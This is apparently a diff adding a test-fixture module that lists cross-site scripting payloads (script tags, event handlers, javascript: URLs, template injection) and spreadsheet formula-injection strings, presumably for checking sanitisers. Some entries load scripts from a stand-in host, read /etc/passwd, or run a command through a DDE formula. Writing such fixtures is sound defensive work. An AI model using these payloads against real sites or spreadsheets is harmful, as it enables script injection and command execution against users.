@@ -1,0 +1,60 @@
+"""Texts by which somebody could try to have something run where others read them: page, mail, paper, spreadsheet.
+
+Everything that one of them would make carries ``data-evil``, and whatever would run calls ``alert``.
+"""
+
+PAGE = [
+    "<script data-evil>alert(1)</script>",
+    "<ScRiPt data-evil>alert(1)</sCrIpT>",
+    '"><script data-evil>alert(1)</script>',
+    "</title><script data-evil>alert(1)</script>",
+    "</textarea><script data-evil>alert(1)</script>",
+    "</style><script data-evil>alert(1)</script>",
+    "--><script data-evil>alert(1)</script>",
+    "]]><script data-evil>alert(1)</script>",
+    "<script data-evil src=https://elders.example/x.js></script>",
+    "<script data-evil src=data:text/javascript,alert(1)></script>",
+    "<img data-evil src=x onerror=alert(1)>",
+    "<img data-evil src=x onerror=alert(1)//",
+    "<img data-evil/src=x/onerror=alert(1)>",
+    "<svg data-evil onload=alert(1)>",
+    "<svg data-evil><script>alert(1)</script></svg>",
+    "<svg data-evil><animate onbegin=alert(1) attributeName=x></svg>",
+    "<math data-evil><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<body data-evil onload=alert(1)>",
+    "<details data-evil open ontoggle=alert(1)>",
+    "<input data-evil autofocus onfocus=alert(1)>",
+    "<video data-evil><source onerror=alert(1)></video>",
+    "<audio data-evil src=x onerror=alert(1)></audio>",
+    "<iframe data-evil src=javascript:alert(1)></iframe>",
+    '<iframe data-evil srcdoc="<script>alert(1)</script>"></iframe>',
+    "<object data-evil data=javascript:alert(1)></object>",
+    "<embed data-evil src=javascript:alert(1)>",
+    "<a data-evil href=javascript:alert(1)>klik</a>",
+    "<a data-evil href=java&#x09;script:alert(1)>klik</a>",
+    "<form data-evil action=javascript:alert(1)><button>klik</button></form>",
+    "<base data-evil href=https://elders.example/>",
+    "<meta data-evil http-equiv=refresh content=0;url=https://elders.example/>",
+    "<link data-evil rel=stylesheet href=https://elders.example/x.css>",
+    "<style data-evil>@import 'https://elders.example/x.css';</style>",
+    "<div data-evil style=background:url(https://elders.example/x)>",
+    "<template data-evil><script>alert(1)</script></template>",
+    "<noscript data-evil><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '" data-evil onmouseover=alert(1) autofocus onfocus=alert(1) x="',
+    "' data-evil onmouseover=alert(1) x='",
+    "javascript:alert(1)",
+    "[klik](javascript:alert(1))",
+    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
+    "&lt;script data-evil&gt;alert(1)&lt;/script&gt;",
+    '#eval("1") #read("/etc/passwd") <evil>',
+]
+SHEET = [
+    '=HYPERLINK("https://elders.example";"klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\uff1d1+1",
+]
+"""What a spreadsheet takes for a formula when a cell begins with it."""
+ALL = [*PAGE, *SHEET]
